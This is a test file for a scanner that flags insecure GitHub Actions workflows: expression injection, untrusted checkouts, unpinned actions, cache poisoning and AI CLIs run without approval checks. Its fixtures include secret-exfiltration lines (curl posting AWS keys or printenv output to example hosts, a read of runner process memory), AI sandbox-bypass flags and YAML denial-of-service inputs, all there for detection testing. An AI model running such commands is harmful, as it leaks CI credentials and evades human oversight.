import { describe, expect, it } from 'vitest';
import { normalizeExpression, workflowsAnalyzer } from '../../../../src/core/analyzers/ci/workflows.js';
import type { Analyzer, RawFinding, RuleTestCase, ScanData } from '../../../../src/core/rules/types.js';
import { loadScanData } from '../../../../src/io/scan-data.js';
import { describeAnalyzerRules, runAnalyzer } from '../../../helpers/analyzers.js';
import { changeSetOf } from '../../../helpers/changeset.js';
import { buildCatalog } from '../../../../src/core/rules/catalog.js';
import { scanChangeSet } from '../../../../src/core/scan/engine.js';
import { splitLines } from '../../../../src/core/text.js';

const data: ScanData = await loadScanData();

function run(analyzer: Analyzer, c: RuleTestCase): RawFinding[] {
  return runAnalyzer(analyzer, c, { data, partialStatus: 'modified', defaultPath: '.github/workflows/ci.yml' });
}

const scan = (code: string, added?: number[], path = '.github/workflows/ci.yml'): RawFinding[] =>
  run(workflowsAnalyzer, added ? { path, code, added } : { path, code });
const pairs = (findings: RawFinding[]): Array<[string, number]> => findings.map((f) => [f.ruleId, f.line]);
const lines = (...text: string[]): string => `${text.join('\n')}\n`;
const SHA = '11bd71901bbe5b1630ceea73d27597364c9af683';

describeAnalyzerRules(workflowsAnalyzer, { data, partialStatus: 'modified', defaultPath: '.github/workflows/ci.yml' });

// The Nx "s1ngularity" root cause, reduced: a PR title pasted into a privileged workflow.
const NX_STYLE = lines(
  'name: PR title',
  'on:',
  '  pull_request_target:',
  '    types: [opened, edited, synchronize]',
  'permissions: write-all',
  'jobs:',
  '  validate:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  `      - uses: actions/checkout@${SHA}`,
  '        with:',
  '          ref: ${{ github.event.pull_request.head.sha }}',
  '      - uses: actions/setup-node@v4',
  '      - run: npm ci',
  '      - name: Validate title',
  '        run: |',
  '          echo "${{ github.event.pull_request.title }}" > title.txt',
  '          node ./scripts/commit-lint.js title.txt',
);

describe('privileged triggers', () => {
  it('finds every problem of an Nx-style workflow, each on its own line', () => {
    expect(pairs(scan(NX_STYLE))).toEqual([
      ['workflow.write-all-permissions', 5],
      ['workflow.untrusted-checkout', 12],
      ['workflow.unpinned-first-party-action', 13],
      ['workflow.expression-injection', 17],
    ]);
    const injection = scan(NX_STYLE).find((f) => f.ruleId === 'workflow.expression-injection')!;
    expect(injection.message).toContain('github.event.pull_request.title');
    expect(injection.snippet).toBe('echo "${{ github.event.pull_request.title }}" > title.txt');
  });

  it('reports a newly added pull_request_target on the trigger line when the checkout was already there', () => {
    const found = scan(NX_STYLE, [3]);
    expect(pairs(found)).toEqual([['workflow.untrusted-checkout', 3]]);
    expect(found[0]!.message).toContain('pull_request_target');
  });

  it('reports nothing for lines the change does not add', () => {
    expect(scan(NX_STYLE, [14])).toEqual([]);
  });

  it('recognizes the PR head in every spelling', () => {
    for (const ref of [
      '${{ github.head_ref }}',
      "${{ github.event.pull_request.head['ref'] }}",
      'refs/pull/${{ github.event.number }}/merge',
      '${{ github.event.workflow_run.head_sha }}',
      '${{ github.event.pull_request.merge_commit_sha }}',
    ]) {
      const code = lines('on: [pull_request_target]', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: actions/checkout@${SHA}`, '        with:', `          ref: "${ref}"`);
      expect(pairs(scan(code)), ref).toEqual([['workflow.untrusted-checkout', 8]]);
    }
  });

  it('flags the explicit unsafe opt-in of newer actions/checkout versions and checkout of the fork repository', () => {
    const code = lines(
      'on: {workflow_run: {workflows: [CI], types: [completed]}}',
      'jobs:',
      '  a:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      `      - uses: actions/checkout@${SHA}`,
      '        with:',
      '          repository: ${{ github.event.workflow_run.head_repository.full_name }}',
      '          allow-unsafe-pr-checkout: true',
    );
    const found = scan(code);
    expect(pairs(found)).toEqual([['workflow.untrusted-checkout', 8]]);
    expect(found[0]!.message).toContain('repository: ${{ github.event.workflow_run.head_repository.full_name }}');
    expect(found[0]!.message).toContain('allow-unsafe-pr-checkout');
    expect(pairs(scan(code, [9]))).toEqual([['workflow.untrusted-checkout', 9]]);
  });

  it('leaves pull_request workflows and privileged workflows without a head checkout alone', () => {
    const code = lines('on: [push, pull_request]', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: actions/checkout@${SHA}`, '        with:', '          ref: ${{ github.head_ref }}');
    expect(scan(code)).toEqual([]);
    const base = lines('on: pull_request_target', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: actions/checkout@${SHA}`, '        with:', '          ref: main');
    expect(scan(base)).toEqual([]);
  });
});

describe('untrusted expressions', () => {
  const job = (...steps: string[]): string =>
    lines('on: [issues, issue_comment, pull_request, discussion, push]', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', ...steps);

  it.each([
    'github.event.issue.body',
    'github.event.comment.body',
    'github.event.review.body',
    'github.event.review_comment.body',
    'github.event.pull_request.head.ref',
    'github.event.pull_request.head.label',
    'github.event.head_commit.message',
    'github.event.head_commit.author.email',
    'github.event.commits[0].message',
    'github.event.workflow_run.head_branch',
    'github.event.discussion.title',
    'github.event.pages[0].page_name',
    'toJSON(github.event)',
    "github['head_ref']",
    'GitHub.Event.Issue.Title',
  ])('%s in run: is injection', (expression) => {
    expect(pairs(scan(job(`      - run: echo "\${{ ${expression} }}"`)))).toEqual([['workflow.expression-injection', 6]]);
  });

  it.each([
    'github.event.issue.number',
    'github.event.pull_request.head.sha',
    'github.sha',
    'github.repository',
    'steps.meta.outputs.version',
    'secrets.TOKEN',
    "contains(github.event.pull_request.labels.*.name, 'bug')",
  ])('%s in run: is not', (expression) => {
    expect(scan(job(`      - run: echo "\${{ ${expression} }}"`))).toEqual([]);
  });

  it('finds expressions inside multi-line and folded scripts on the right line', () => {
    const code = job(
      '      - name: Greet',
      '        run: >-',
      '          echo hello &&',
      '          echo ${{',
      '            github.event.issue.title }}',
    );
    expect(pairs(scan(code))).toEqual([['workflow.expression-injection', 9]]);
  });

  it('treats untrusted text in any AI prompt input as prompt injection', () => {
    const code = job(
      '      - uses: some-org/ai-review@0123456789abcdef0123456789abcdef01234567',
      '        with:',
      '          custom_instructions: "Focus on ${{ github.event.pull_request.body }}"',
      '      - uses: openai/codex-action@0123456789abcdef0123456789abcdef01234567',
      '        with:',
      '          codex_prompt: ${{ github.event.comment.body }}',
    );
    expect(pairs(scan(code))).toEqual([
      ['workflow.ai-prompt-injection', 8],
      ['workflow.ai-prompt-injection', 11],
    ]);
  });

  it('treats dispatch inputs as lower risk and ignores inputs in composite actions', () => {
    expect(pairs(scan(job('      - run: deploy ${{ inputs.environment }}')))).toEqual([['workflow.input-injection', 6]]);
    const action = lines('name: deploy', 'inputs:', '  environment: {required: true}', 'runs:', '  using: composite', '  steps:', '    - run: deploy ${{ inputs.environment }}', '      shell: bash');
    expect(scan(action, undefined, 'deploy/action.yaml')).toEqual([]);
  });
});

describe('permissions', () => {
  it('reports a newly added id-token: write on a privileged trigger but not an existing one', () => {
    const code = lines('on: workflow_run', 'permissions:', '  contents: read', '  id-token: write', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', '      - run: ./deploy.sh');
    expect(pairs(scan(code))).toEqual([['workflow.id-token-write', 4]]);
    expect(scan(code, [9])).toEqual([]);
    // A trigger added to a workflow that already had the grant: reported on the trigger.
    expect(pairs(scan(code, [1]))).toEqual([['workflow.id-token-write', 1]]);
  });

  it('leaves id-token: write alone on pushes, tags, releases and plain pull requests', () => {
    for (const on of ['on: push', 'on:\n  release:\n    types: [published]', 'on: pull_request']) {
      const code = `${on}\npermissions:\n  id-token: write\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n`;
      expect(scan(code).filter((f) => f.ruleId === 'workflow.id-token-write')).toEqual([]);
    }
  });
});

describe('action pinning', () => {
  const steps = (...uses: string[]): string =>
    lines('on: push', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', ...uses.map((u) => `      - uses: ${u}`));

  it('distinguishes SHAs, tags, branches, local actions and images', () => {
    const found = scan(
      steps(
        `actions/checkout@${SHA}`,
        'actions/cache@v4',
        'github/codeql-action/init@v3',
        'docker/login-action@v3.3.0',
        'some-org/deploy-action@main',
        'some-org/no-version',
        './.github/actions/build',
        'docker://node:20',
        `some-org/pinned@${SHA} # v1.2.3`,
      ),
    );
    expect(pairs(found)).toEqual([
      ['workflow.unpinned-first-party-action', 7],
      ['workflow.unpinned-first-party-action', 8],
      ['workflow.unpinned-action', 9],
      ['workflow.unpinned-action', 10],
      ['workflow.unpinned-action', 11],
      ['workflow.unpinned-action', 13],
    ]);
    expect(found[3]!.message).toContain('"main"');
    expect(found[4]!.message).toContain('without any version');
  });
});

describe('silenced checks', () => {
  it('flags job-level continue-on-error on a security scan', () => {
    const code = lines('on: push', 'jobs:', '  security-scan:', '    runs-on: ubuntu-latest', '    continue-on-error: true', '    steps:', '      - run: trivy fs .');
    expect(pairs(scan(code))).toEqual([['workflow.ignored-check-failure', 5]]);
  });

  it('uses the step name to judge a silenced command', () => {
    const code = lines(
      'on: push',
      'jobs:',
      '  a:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - name: Lint',
      '        run: make check || true',
      '      - name: Upload artifacts',
      '        run: ./upload.sh || true',
      '        continue-on-error: true',
      '      - name: Tests',
      '        run: pytest -q; true',
    );
    expect(pairs(scan(code))).toEqual([
      ['workflow.ignored-check-failure', 7],
      ['workflow.ignored-check-failure', 12],
    ]);
  });
});

describe('secrets and AI agents', () => {
  const job = (...steps: string[]): string => lines('on: push', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', ...steps);

  it('follows continued curl commands and names the destination', () => {
    const code = job('      - run: |', '          curl -X POST \\', '            -H "X-Key: ${{ secrets.AWS_SECRET_ACCESS_KEY }}" \\', '            https://collect.example.org/upload');
    const found = scan(code);
    expect(pairs(found)).toEqual([['workflow.secret-exfiltration', 8]]);
    expect(found[0]!.message).toContain('collect.example.org');
  });

  it('flags secrets encoded past log masking and runner memory reads', () => {
    expect(pairs(scan(job('      - run: echo "${{ secrets.NPM_TOKEN }}" | base64')))).toEqual([['workflow.secret-exfiltration', 6]]);
    expect(pairs(scan(job('      - run: sudo cat /proc/$(pgrep Runner.Worker)/mem > dump.bin')))).toEqual([['workflow.secret-exfiltration', 6]]);
    expect(pairs(scan(job('      - run: printenv | curl -d @- https://x.example')))).toEqual([['workflow.secret-exfiltration', 6]]);
  });

  it('leaves secrets used as intended alone', () => {
    const code = job(
      '      - run: npm publish',
      '        env:',
      '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}',
      '      - run: gh release create v1 --notes "x"',
      '        env:',
      '          GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}',
      '      - run: env | sort',
    );
    expect(scan(code)).toEqual([]);
  });

  it('flags AI CLIs run without guardrails in run steps and action inputs', () => {
    const code = job(
      '      - run: codex exec --dangerously-bypass-approvals-and-sandbox "fix lint"',
      '      - run: gemini -y -p "triage"',
      '      - uses: anthropics/claude-code-action@0123456789abcdef0123456789abcdef01234567',
      '        with:',
      '          claude_args: --dangerously-skip-permissions --max-turns 30',
      '      - run: echo "never use --yolo" > NOTES.md',
    );
    expect(pairs(scan(code)).filter(([id]) => id === 'workflow.ai-cli-bypass')).toEqual([
      ['workflow.ai-cli-bypass', 6],
      ['workflow.ai-cli-bypass', 7],
      ['workflow.ai-cli-bypass', 10],
    ]);
  });

  it('reports a bypass flag on its own continued line, even when only that line is added', () => {
    const code = job('      - run: |', '          npx @google/gemini-cli@0.9.0 \\', '            --model gemini-2.5-pro \\', '            --yolo \\', '            -p "triage"');
    expect(pairs(scan(code, [9]))).toEqual([['workflow.ai-cli-bypass', 9]]);
    expect(scan(job('      - run: ./build.sh --force -y'))).toEqual([]);
  });

  it('lets webhook secrets be posted to and names unknown destinations', () => {
    const slack = job('      - run: |', '          curl -X POST -H "Content-type: application/json" -d \'{"text":"deployed"}\' ${{ secrets.SLACK_WEBHOOK_URL }}');
    expect(scan(slack)).toEqual([]);
    const unknown = job('      - run: curl -s "$TARGET" -d "${{ secrets.DEPLOY_KEY }}"');
    expect(pairs(scan(unknown))).toEqual([['workflow.secret-exfiltration', 6]]);
    const docs = job('      - run: echo "${{ secrets.API_KEY }}" > key.txt && echo "see https://docs.example.org"');
    expect(scan(docs)).toEqual([]);
  });
});

describe('composite actions', () => {
  it('checks steps under runs:', () => {
    const code = lines(
      'name: setup',
      'runs:',
      '  using: composite',
      '  steps:',
      '    - uses: some-org/setup-tool@v2',
      '    - shell: bash',
      '      run: echo "${{ github.event.pull_request.title }}"',
    );
    expect(pairs(scan(code, undefined, '.github/actions/setup/action.yml'))).toEqual([
      ['workflow.unpinned-action', 5],
      ['workflow.expression-injection', 7],
    ]);
  });
});

describe('hostile input', () => {
  it('turns broken YAML into a finding, never an exception', () => {
    for (const code of ['on: [push\njobs:\n', 'a: b: c\n', 'jobs:\n  a:\n  a:\n', '"unterminated\n', '---\na: 1\n---\nb: 2\n', '\t- tab\n']) {
      expect(pairs(scan(code)).map(([id]) => id), JSON.stringify(code)).toEqual(['workflow.parse-error']);
    }
  });

  it('reports a parse error on an unchanged line at the first added line', () => {
    const code = lines('name: CI', 'on: [push', 'jobs: {}', 'env:', '  A: 1');
    expect(pairs(scan(code, [5]))).toEqual([['workflow.parse-error', 5]]);
  });

  it('refuses pathological nesting and aliases quickly', () => {
    const started = performance.now();
    expect(pairs(scan('{'.repeat(20_000))).map(([id]) => id)).toEqual(['workflow.parse-error']);
    expect(pairs(scan(`a: ${'['.repeat(1_000_000)}`)).map(([id]) => id)).toEqual(['workflow.parse-error']);
    const laughs = lines(
      'a: &a ["x","x","x","x","x","x","x","x","x"]',
      'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
      'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
      'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
      'on: *d',
      'jobs: {}',
    );
    scan(laughs);
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it('finishes on a 1 MB line and a 1 MB script', () => {
    const started = performance.now();
    scan(lines('on: push', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', `      - run: echo ${'x'.repeat(1_000_000)} || true`));
    scan(lines('on: push', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', `      - run: echo \${{ ${'['.repeat(1_000_000)}`));
    scan(lines('on: push', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', '      - run: |', ...Array.from({ length: 20_000 }, () => '          curl ${{ secrets.X }} \\')));
    // Tainted variables, quotes and evaluators by the thousand on one continued line.
    const tainted = ['on: workflow_run', 'env:', '  T: ${{ github.head_ref }}', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', '      - id: s', '        run: |'];
    scan(lines(...tainted, ...Array.from({ length: 20_000 }, () => `          eval "$T" '$T' sh -c "$T" >> $GITHUB_OUTPUT \\`)));
    scan(lines(...tainted, `          echo ${"'\"$T".repeat(300_000)}`));
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it('ignores files that are neither workflows nor actions', () => {
    expect(scan('on: pull_request_target\n', undefined, 'docs/workflow.yml')).toEqual([]);
    expect(scan('on: pull_request_target\n', undefined, '.github/dependabot.yml')).toEqual([]);
  });
});

describe('normalizeExpression', () => {
  it.each([
    [" github.event.commits[0].message ", 'github.event.commits.*.message'],
    ["github['event'][\"issue\"].title", 'github.event.issue.title'],
    ['toJSON( github.event )', 'tojson(github.event)'],
    ['a[', 'a['],
  ])('%s', (input, expected) => {
    expect(normalizeExpression(input)).toBe(expected);
  });
});

describe('data flow of untrusted text', () => {
  const job = (...steps: string[]): string => lines('on: pull_request_target', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', ...steps);

  it('follows a step output written from untrusted text into a later expression', () => {
    const code = job(
      '      - id: meta',
      '        env:',
      '          TITLE: ${{ github.event.pull_request.title }}',
      '        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"',
      '      - run: echo "${{ steps.meta.outputs.title }}" > title.txt',
    );
    const found = scan(code).filter((f) => f.ruleId === 'workflow.expression-injection');
    expect(found.map((f) => f.line)).toEqual([10]);
    expect(found[0]!.message).toContain('github.event.pull_request.title');
  });

  it('reports ${{ env.X }} of a tainted variable in github-script and a quoted $X nowhere', () => {
    const code = job(
      '      - env:',
      '          BODY: ${{ github.event.pull_request.body }}',
      '        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea',
      '        with:',
      '          script: |',
      '            const body = `${{ env.BODY }}`;',
      '            const safe = process.env.BODY;',
    );
    expect(pairs(scan(code))).toEqual([['workflow.expression-injection', 11]]);
  });

  it('catches tee -a into $GITHUB_ENV and python -c around a tainted variable', () => {
    const code = job(
      '      - env:',
      '          REF: ${{ github.event.pull_request.title }}',
      '        run: |',
      '          echo "REF=$REF" | tee -a $GITHUB_ENV',
      '          python3 -c "print(\'$REF\'.upper())"',
    );
    expect(pairs(scan(code))).toEqual([
      ['workflow.env-file-injection', 9],
      ['workflow.untrusted-env-evaluated', 10],
    ]);
  });

  it('reports a newly added tainted env entry against a script that was already there', () => {
    const code = job('      - env:', '          REF: ${{ github.event.pull_request.body }}', '        run: echo "REF=$REF" >> $GITHUB_ENV');
    expect(pairs(scan(code, [7]))).toEqual([['workflow.env-file-injection', 7]]);
    expect(scan(code, [6])).toEqual([]);
  });

  it('lets branch names into $GITHUB_ENV (git refuses line breaks in ref names) but not into eval', () => {
    const code = job('      - env:', '          REF: ${{ github.head_ref }}', '        run: |', '          echo "REF=$REF" >> $GITHUB_ENV', '          eval "git log $REF"');
    expect(pairs(scan(code))).toEqual([['workflow.untrusted-env-evaluated', 10]]);
  });

  it('names $GITHUB_ENV when an untrusted expression is written there directly', () => {
    const found = scan(job('      - run: echo "T=${{ github.event.pull_request.title }}" >> $GITHUB_ENV'));
    expect(pairs(found)).toEqual([['workflow.expression-injection', 6]]);
    expect(found[0]!.message).toContain('$GITHUB_ENV');
  });

  it('follows env through composite actions', () => {
    const action = lines(
      'name: tag',
      'runs:',
      '  using: composite',
      '  steps:',
      '    - shell: bash',
      '      env:',
      '        BRANCH: ${{ github.event.head_commit.message }}',
      '      run: echo "BRANCH=$BRANCH" >> "$GITHUB_ENV"',
    );
    expect(pairs(scan(action, undefined, 'tools/tag/action.yml'))).toEqual([['workflow.env-file-injection', 8]]);
  });

  it('accepts a generated heredoc delimiter and a ${NAME//…} rewrite before $GITHUB_ENV', () => {
    const heredoc = job(
      '      - env:',
      '          BODY: ${{ github.event.pull_request.body }}',
      '        run: |',
      '          EOF=$(openssl rand -hex 16)',
      '          { echo "BODY<<$EOF"; echo "$BODY"; echo "$EOF"; } >> "$GITHUB_ENV"',
    );
    expect(scan(heredoc)).toEqual([]);
    const rewritten = job('      - env:', '          REF: ${{ github.head_ref }}', '        run: echo "SLUG=${REF//[^a-zA-Z0-9-]/-}" >> "$GITHUB_ENV"');
    expect(scan(rewritten)).toEqual([]);
  });

  it('does not taint variables a step overrides with trusted values', () => {
    const code = lines(
      'on: issues',
      'env:',
      '  TITLE: ${{ github.event.issue.title }}',
      'jobs:',
      '  a:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - env:',
      '          TITLE: fixed',
      '        run: eval "echo $TITLE"',
    );
    expect(scan(code)).toEqual([]);
  });
});

describe('artifacts, caches, runners and secrets of privileged workflows', () => {
  const workflowRun = (...steps: string[]): string =>
    lines('on:', '  workflow_run:', '    workflows: [CI]', '    types: [completed]', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', ...steps);

  it('reports gh run download followed by unzip or source at medium confidence, a read into $GITHUB_ENV at the rule\'s', () => {
    const code = workflowRun(
      '      - run: |',
      '          gh run download ${{ github.event.workflow_run.id }} -n pr',
      '          unzip pr.zip -d pr',
      '          . pr/vars.sh',
    );
    const found = scan(code).filter((f) => f.ruleId === 'workflow.untrusted-artifact');
    expect(found.map((f) => [f.line, f.confidence])).toEqual([
      [11, 'medium'],
      [12, 'medium'],
    ]);
    const intoEnv = workflowRun('      - run: |', '          gh run download ${{ github.event.workflow_run.id }} -n pr', '          echo "PR=$(cat pr/number)" >> "$GITHUB_ENV"');
    expect(scan(intoEnv).filter((f) => f.ruleId === 'workflow.untrusted-artifact').map((f) => [f.line, f.confidence])).toEqual([[11, undefined]]);
  });

  it('leaves actions/download-artifact without run-id alone: it reads the current run', () => {
    const code = workflowRun('      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16', '      - run: unzip report.zip && source report/env.sh');
    expect(scan(code).filter((f) => f.ruleId === 'workflow.untrusted-artifact')).toEqual([]);
  });

  it('reports setup-go (which caches by default) in a comment-triggered job that checks out the PR', () => {
    const code = lines(
      'on: issue_comment',
      'jobs:',
      '  a:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - run: gh pr checkout ${{ github.event.issue.number }}',
      '      - uses: actions/setup-go@0aaccfd150d50ccaeb58ebd88d36e91967a5f35b',
      '      - run: go test ./...',
    );
    expect(scan(code).filter((f) => f.ruleId === 'workflow.cache-poisoning').map((f) => f.line)).toEqual([7]);
    expect(scan(code.replace('setup-go@0aaccfd150d50ccaeb58ebd88d36e91967a5f35b', 'setup-go@0aaccfd150d50ccaeb58ebd88d36e91967a5f35b\n        with:\n          cache: false'))
      .filter((f) => f.ruleId === 'workflow.cache-poisoning')).toEqual([]);
  });

  it('reports self-hosted labels in a runs-on map, not GitHub-hosted or guarded jobs', () => {
    const base = (runsOn: string, guard = ''): string =>
      lines('on: pull_request', 'jobs:', '  a:', ...(guard ? [`    if: ${guard}`] : []), `    runs-on: ${runsOn}`, '    steps:', '      - run: make');
    expect(scan(base('{ labels: [self-hosted, arm64] }')).map((f) => f.ruleId)).toEqual(['workflow.self-hosted-runner-untrusted']);
    expect(scan(base('ubuntu-latest'))).toEqual([]);
    expect(scan(base('self-hosted', '${{ !github.event.pull_request.head.repo.fork }}'))).toEqual([]);
  });

  it('leaves secrets: inherit alone when the called workflow gets no pull request ref', () => {
    const code = lines('on: pull_request_target', 'jobs:', '  label:', '    uses: ./.github/workflows/label.yml', '    with:', '      number: ${{ github.event.number }}', '    secrets: inherit');
    // github.event.number names the PR but is not its code: only a checkout of it would be.
    expect(scan(code).filter((f) => f.ruleId === 'workflow.secrets-to-untrusted-code')).toEqual([]);
  });
});

describe('AI CLI flags', () => {
  it('reads the CLI name as a command, not as part of a file name', () => {
    const run = (script: string): string[] =>
      scan(lines('on: push', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', `      - run: ${script}`)).map((f) => f.ruleId);
    expect(run("echo 'cp /tmp/main-claude.md ./CLAUDE.md 2>/dev/null || rm -f ./CLAUDE.md'")).toEqual([]);
    expect(run('rm -rf .claude/ && cp -f x y')).toEqual([]);
    expect(run('npx @google/gemini-cli -y -p "fix it"')).toEqual(['workflow.ai-cli-bypass']);
    expect(run('codex exec --full-auto "update deps"')).toEqual(['workflow.ai-cli-bypass']);
  });
});

describe('inputs followed into called workflows and actions of the same change', () => {
  const caller = lines(
    'on: issue_comment',
    'jobs:',
    '  notify:',
    '    uses: ./.github/workflows/notify.yml',
    '    with:',
    '      message: ${{ github.event.comment.body }}',
    '      number: ${{ github.event.issue.number }}',
    '  act:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - uses: ./.github/actions/reply',
    '        with:',
    '          text: ${{ github.event.comment.body }}',
    '          safe: ${{ github.event.comment.body }}',
  );
  const reusable = lines(
    'on:',
    '  workflow_call:',
    '    inputs:',
    '      message: { type: string }',
    '      number: { type: number }',
    'jobs:',
    '  post:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - run: ./post.sh ${{ inputs.number }} "${{ inputs.message }}"',
  );
  const action = lines(
    'name: reply',
    'inputs:',
    '  text: { required: true }',
    '  safe: { required: true }',
    'runs:',
    '  using: composite',
    '  steps:',
    '    - shell: bash',
    '      env:',
    '        SAFE: ${{ inputs.safe }}',
    '      run: |',
    '        echo "$SAFE"',
    '        echo "${{ inputs.text }}"',
  );

  const analyze = (related: Map<string, string>) => {
    const file = { path: '.github/workflows/comment.yml', oldPath: null, status: 'added' as const, addedLines: splitLines(caller).map((_, i) => i + 1), deletedLineCount: 0, removedAfter: [], binary: false, oldMode: null, newMode: null, size: caller.length, unavailable: null };
    return workflowsAnalyzer.analyze({ file, text: caller, lines: splitLines(caller), added: new Set(file.addedLines), data, related, base: null });
  };

  it('reports untrusted text passed to an input the callee expands, on the caller\'s line', () => {
    const related = new Map([
      ['.github/workflows/notify.yml', reusable],
      ['.github/actions/reply/action.yml', action],
    ]);
    const found = analyze(related).filter((f) => f.ruleId === 'workflow.expression-injection');
    expect(found.map((f) => f.line)).toEqual([6, 13]);
    expect(found[0]!.message).toContain('.github/workflows/notify.yml');
    expect(found[0]!.message).toContain('line 10');
    expect(found[1]!.message).toContain('line 13');
  });

  it('says nothing when the callee is not part of the change or cannot be read', () => {
    expect(analyze(new Map()).filter((f) => f.ruleId === 'workflow.expression-injection')).toEqual([]);
    const broken = new Map([['.github/workflows/notify.yml', 'on: [workflow_call\njobs: {}\n']]);
    expect(analyze(broken).filter((f) => f.ruleId === 'workflow.expression-injection')).toEqual([]);
  });

  it('gets the called files from the scan engine', async () => {
    const result = await scanChangeSet(
      changeSetOf([
        { path: '.github/workflows/comment.yml', code: caller },
        { path: '.github/workflows/notify.yml', code: reusable },
        { path: '.github/actions/reply/action.yml', code: action },
      ]),
      { catalog: buildCatalog([], [workflowsAnalyzer]), data },
    );
    const hits = result.findings.filter((f) => f.ruleId === 'workflow.expression-injection').map((f) => `${f.path}:${f.line}`);
    expect(hits).toEqual(['.github/workflows/comment.yml:6', '.github/workflows/comment.yml:13']);
  });
});
